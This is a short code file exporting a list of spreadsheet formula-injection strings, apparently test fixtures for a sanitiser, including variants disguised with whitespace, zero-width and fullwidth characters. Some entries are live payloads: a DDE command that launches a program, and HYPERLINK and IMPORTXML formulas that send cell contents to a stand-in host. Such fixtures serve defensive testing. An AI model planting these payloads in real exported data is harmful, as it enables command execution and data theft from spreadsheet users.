/** Beginnings that some spreadsheet takes for a formula, dressed up as people do. */
export const formulas = [
  '=1+1', '+1+1', '-1+1', '@SUM(A1)', '=cmd|\' /C calc\'!A0', '=HYPERLINK("http://x.example?"&A1,"x")', '=IMPORTXML("http://x.example","//a")',
  ' =1+1', '  \t=1+1', '\t=1+1', '\r=1+1', '\n=1+1', '\u0000=1+1', '\ufeff=1+1', '\u00a0=1+1', '\u200b=1+1', '\u2060@A1', '\u202e=1+1',
  '＝1+1', '＋1+1', '－1+1', '＠SUM(A1)', '\u3000＝1+1', "'=1+1", "''=1+1", '%0A=1+1', '|calc',
] // prettier-ignore
